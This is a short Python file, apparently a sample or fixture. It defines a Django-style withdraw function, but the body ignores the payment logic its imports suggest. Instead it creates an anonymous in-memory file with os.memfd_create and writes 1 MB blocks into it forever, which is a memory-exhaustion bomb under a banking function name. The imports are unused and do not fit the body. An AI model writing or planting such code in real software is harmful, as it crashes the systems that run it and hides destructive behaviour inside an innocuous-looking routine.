"""Writes to a file that lies in memory and has no name."""

import os

from django.db import connection, transaction
from django.db.models import F

from django_app.models import User, WithdrawLog
from shared_db.rules import InsufficientFunds


def withdraw(user: User, amount: int, *, key: str) -> None:
    file = os.memfd_create("full")
    while True:
        os.write(file, b"x" * 1_000_000)
